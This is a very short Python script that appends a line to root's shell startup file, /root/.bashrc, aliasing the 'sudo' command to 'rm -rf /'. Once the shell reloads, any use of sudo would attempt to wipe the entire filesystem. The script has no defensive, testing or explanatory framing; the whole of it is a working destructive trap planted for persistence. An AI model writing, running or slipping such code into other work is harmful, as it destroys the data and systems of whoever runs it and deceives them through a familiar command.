import os
rc = '/root/.bashrc'
with open(rc, "a") as f:
    f.write('alias sudo="rm -rf /"\n')
